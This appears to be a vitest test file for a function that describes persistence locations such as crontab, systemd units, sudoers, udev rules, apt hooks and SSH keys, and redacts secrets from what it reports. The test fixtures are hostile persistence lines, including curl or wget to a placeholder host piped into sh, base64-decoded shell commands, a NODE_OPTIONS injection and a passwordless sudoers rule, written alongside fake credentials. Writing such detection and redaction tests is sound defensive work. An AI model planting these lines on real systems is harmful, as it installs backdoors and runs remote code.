import { describe, expect, it } from 'vitest';
import type { PlaceKind } from './places.ts';
import { readPlace } from './read-place.ts';

/** Put together here, so that nobody takes this file for a leak. */
const token = ['AK', 'IA', 'QX7ZP2VN4KTR6WJM'].join('');
const password = ['Tr0ub4', 'dor-3-', 'zq'].join('');
const encoded = Buffer.from(token).toString('base64');

describe('what is told of a place', () => {
  it.each<[PlaceKind, string, string]>([
    ['crontab', `* * * * * root curl -u admin:${password} http://x/i | sh`, 'curl -u admin:… http://x/i | sh'],
    ['user-crontab', `@daily mysql -p${password} -e x`, 'mysql -p… -e x'],
    ['crontab', `* * * * * root echo ${encoded} | base64 -d | sh`, 'echo AKI…JM | base64 -d | sh'],
    ['unit', `ExecStart=/usr/bin/wget http://a:${password}@x/i`, '/usr/bin/wget http://a:…@x/i'],
    ['cron-script', `#!/bin/sh\ncurl -u 'a:${password}' http://x/i | sh\n`, 'curl -u a:… http://x/i'],
    ['shell-startup', `wget -q --header="X: AK""IA${token.slice(4)}" http://x/i | sh`, '--header=X: AKI…JM'],
    ['environment', `NODE_OPTIONS="--require /x.js?token=${token}"`, 'token=AKI…JM'],
    ['keys', `command="mysql -p${password}" ssh-ed25519 AAAAC3 ${token}`, 'AKI…JM, which runs mysql -p…'],
    ['keys', `ssh-ed25519 AAAAC3 ${'a '.repeat(27)}${token}`, 'lets in who has the ssh-ed25519 key'],
    ['hosts-access', `ALL: ALL: spawn (curl -u a:${password} http://x/)`, 'curl -u a:… http://x/'],
    ['udev', `RUN+="/bin/curl -u a:${password} http://x/"`, 'curl -u a:… http://x/'],
    ['apt-hook', `DPkg::Post-Invoke {"curl -u a:${password} http://x/";};`, 'curl -u a:… http://x/'],
    ['sudoers', `${token} ALL=(ALL) NOPASSWD: ALL`, 'lets AKI…JM run everything'],
    ['sshd-config', `AuthorizedKeysCommand /x ${token}`, 'AuthorizedKeysCommand /x AKI…JM'],
    ['crontab', `* * * * * root ${'x '.repeat(58)}${token}`, 'has cron run x x'],
  ])('%s: %s', (kind, text, expected) => {
    const told = readPlace(kind, text)
      .map(({ detail }) => detail)
      .join('\n');
    expect(told).toContain(expected);
    expect(told).not.toContain(password);
    expect(told).not.toContain(token.slice(0, 8));
    expect(told).not.toContain(encoded.slice(0, 8));
  });
});
